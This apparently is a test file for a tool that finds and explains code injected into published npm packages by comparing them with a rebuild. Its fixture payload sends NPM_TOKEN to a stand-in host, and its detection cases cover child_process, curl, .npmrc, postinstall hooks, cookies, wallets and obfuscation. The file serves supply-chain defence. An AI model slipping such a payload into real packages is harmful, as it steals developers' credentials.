import { describe, expect, test } from 'vitest';
import { explain } from '../../src/explain/explain.ts';
import { explainAll } from '../../src/explain/explain-all.ts';
import { difference } from '../../src/compare/entries.ts';
import { archiveOf } from '../support/artifacts.ts';
import { npmTarball } from '../support/tarball.ts';

const explained = (published: string, rebuilt: string | null, path = 'index.js') =>
  explain({
    path,
    published: Buffer.from(published),
    rebuilt: rebuilt === null ? null : Buffer.from(rebuilt),
  });

/** Fifty functions on one line, as minifiers leave them. */
const bundle = Array.from(
  { length: 50 },
  (_, i) => `function f${i}(a,b){if(a>${i}){return b}return a*${i}}`,
).join('');
const payload = "require('https').get('https://collect.example/'+process.env.NPM_TOKEN);";

describe('a statement that was slipped into a bundle of one line', () => {
  const at = bundle.indexOf('{return b}', bundle.length / 2) + 1;
  const injected = bundle.slice(0, at) + payload + bundle.slice(at);

  test('is shown alone, with its place', () => {
    expect(explained(injected, bundle)).toMatchObject({
      total: 1,
      changes: [{ kind: 'added', offset: at, line: 1, code: payload }],
    });
  });

  test('is told with what it can do', () => {
    expect(explained(injected, bundle)?.capabilities).toEqual([
      { kind: 'network', detail: 'https' },
      { kind: 'network', detail: 'https://collect.example/' },
      { kind: 'credentials', detail: 'process.env.NPM_TOKEN' },
      { kind: 'environment', detail: 'process.env' },
    ]);
  });

  test('has its place in bytes', () => {
    const accents = `/*${'é'.repeat(10)}*/`;
    expect(explained(accents + injected, accents + bundle)?.changes[0]?.offset).toBe(at + 24);
  });
});

describe('a change', () => {
  test('of a statement is shown from where it begins', () => {
    const rebuilt = `const value = [${Array.from({ length: 60 }, (_, i) => `'item${i}'`).join(', ')}, 'good'];`;
    const result = explained(rebuilt.replace("'good'", 'eval(x)'), rebuilt);
    expect(result).toMatchObject({
      total: 1,
      changes: [{ kind: 'changed', offset: rebuilt.indexOf("'good'") }],
    });
    expect(result?.changes[0]?.code).toMatch(/^\.\.\. .{40}eval\(x\)\];$/);
    expect(result?.capabilities).toEqual([{ kind: 'dynamic-code', detail: 'eval' }]);
  });
  test('within a function of an object of a call is found', () => {
    const around = (inner: string) => `(()=>{var m={17:(e,t)=>{${inner}t.x=1},18:(e)=>{e.y=2}};m[17]()})();`;
    expect(explained(around('fetch("/");'), around(''))).toMatchObject({
      total: 1,
      changes: [{ kind: 'added', code: 'fetch("/");' }],
    });
  });
  test('of what was there is no new capability', () => {
    expect(explained("fetch('/a', {x: 1})", "fetch('/a', {x: 2})")?.capabilities).toEqual([]);
  });
  test('that takes a statement away shows it', () => {
    expect(explained('a();c();', 'a();check();c();')).toMatchObject({
      changes: [{ kind: 'removed', offset: 4, code: 'check();' }],
      capabilities: [],
    });
  });
  test('of comments and formatting alone is none', () => {
    expect(explained('a() // one', 'a();\n// two')).toEqual({ total: 0, changes: [], capabilities: [] });
  });
  test('of a declaration is found', () => {
    expect(explained('export type A = 1;', 'export type A = 2;', 'a.d.ts')).toMatchObject({ total: 1 });
  });
  test('of directives counts', () => {
    expect(explained("'use strict';a()", 'a()')).toMatchObject({ total: 1, changes: [{ kind: 'added' }] });
  });
});

describe('what an added script can do', () => {
  test.each([
    ["import fs from 'node:fs'", 'files', 'node:fs'],
    ["const {exec} = require('child_process')", 'processes', 'child_process'],
    ["import('dns')", 'network', 'dns'],
    ["export * from 'os'", 'environment', 'os'],
    ['new Function("return 1")', 'dynamic-code', 'Function'],
    ['require(a + b)', 'dynamic-code', 'require of a computed name'],
    ['setTimeout("f()", 1)', 'dynamic-code', 'setTimeout of a text'],
    ['new WebSocket(x)', 'network', 'WebSocket'],
    ['navigator.clipboard.readText()', 'clipboard', 'navigator.clipboard'],
    ['window.ethereum.request(x)', 'wallets', 'window.ethereum'],
    [`f('0x${'aB1'.repeat(13)}f')`, 'wallets', `0x${'aB1'.repeat(13)}f`],
    ['f(`${home}/.npmrc`)', 'credentials', '.npmrc'],
    ["f('curl http://x')", 'processes', 'curl'],
    ["Buffer.from(x, 'base64')", 'encoded-text', "Buffer.from(..., 'base64')"],
    ['var _0x1a2b = 1', 'obfuscation', 'names like _0x1a2b'],
    ['document.cookie', 'browser-data', 'document.cookie'],
    ["import { env } from 'node:process'", 'environment', 'process'],
    ["globalThis['ev' + 'al'](x)", 'dynamic-code', 'a member of globalThis by a computed name'],
    ['process[a](x)', 'dynamic-code', 'a member of process by a computed name'],
    ["[].constructor.constructor('f()')()", 'dynamic-code', 'constructor.constructor'],
    ['new Worker(x)', 'dynamic-code', 'Worker'],
    ["module.require('x')", 'dynamic-code', 'module.require'],
    ["manifest.scripts = { postinstall: 'node x.js' }", 'installs', 'postinstall'],
    ["run('npm publish')", 'installs', 'npm publish'],
    ['process.env.npm_lifecycle_event', 'installs', 'npm_lifecycle_event'],
    ['if (!![]) f()', 'obfuscation', 'signs in place of words: !![]'],
    [`f('${'\u{e0101}'.repeat(8)}')`, 'obfuscation', 'text that nobody sees'],
    [`f([${'7,'.repeat(200)}])`, 'encoded-text', '200 bytes as numbers'],
    ['Deno.readTextFile(x)', 'files', 'Deno.readTextFile'],
    ["f('nkbihfbeogaeaoehlefnkodbefgpgknn')", 'wallets', 'nkbihfbeogaeaoehlefnkodbefgpgknn'],
  ])('%s', (code, kind, detail) => {
    expect(explained(code, null)?.capabilities).toContainEqual({ kind, detail: detail.replace('node:', '') });
  });
  test('long encoded text is told with its beginning', () => {
    const text = 'QUJD'.repeat(100);
    expect(explained(`f('${text}')`, null)?.capabilities).toEqual([
      { kind: 'encoded-text', detail: `400 characters: ${text.slice(0, 40)}...` },
    ]);
  });
  test('computing alone is nothing', () => {
    const code = 'export const add = (a, b) => !!a && this.constructor[b](list[0], window[0], [1, 2], `👩‍💻`)';
    expect(explained(code, null)?.capabilities).toEqual([]);
  });
});

describe('attack: a script made against its reader', () => {
  test.each([
    ['nested more deeply than the stack', `f(${'['.repeat(100_000)}`],
    ['that does not parse', 'f('],
    ['of bytes that are no UTF-8', Buffer.of(0xff, 0xfe)],
  ])('%s has no explanation', (_, published) => {
    expect(explain({ path: 'a.js', published: Buffer.from(published), rebuilt: null })).toBeNull();
  });
  test('control characters of its code are made visible', () => {
    const { code } = explained('f("\u001b[2J\u202e")', 'f()')?.changes[0] ?? {};
    expect(code).toBe('f("<U+001B>[2J<U+202E>")');
  });
  test('thousands of statements are not all shown', () => {
    const many = Array.from({ length: 3000 }, (_, i) => `a${i}();`).join('');
    const result = explained(many, 'b();');
    expect(result?.changes.length).toBe(20);
  });
});

describe('in a thread of its own', () => {
  const entry = (path: string, content: string) =>
    archiveOf(npmTarball({ [path]: content })).entries.find((one) => one.path === path) ?? null;
  const added = (path: string, content: string) =>
    difference({ kind: 'added', published: entry(path, content), rebuilt: null, inCommit: false });

  test('every script is explained, and no other file', async () => {
    const all = await explainAll([
      added('a.js', 'eval(x)'),
      added('b.js', 'f('),
      added('c.md', '# c'),
      added('d.js', 'fetch(y)'),
    ]);
    expect([...all]).toEqual([
      ['a.js', { total: 0, changes: [], capabilities: [{ kind: 'dynamic-code', detail: 'eval' }] }],
      ['b.js', { unread: 'it cannot be read as code' }],
      ['d.js', { total: 0, changes: [], capabilities: [{ kind: 'network', detail: 'fetch' }] }],
    ]);
  });

  test('attack: one that is too large is said to be unread, and the next one is read', async () => {
    const large = `f('${'a'.repeat(5 * 1024 ** 2)}')`;
    const all = await explainAll([added('a.js', large), added('b.js', 'eval(x)')]);
    expect(all.get('a.js')).toEqual({ unread: 'it is larger than 4 MiB' });
    expect(all.get('b.js')).toMatchObject({ capabilities: [{ kind: 'dynamic-code' }] });
  });
});
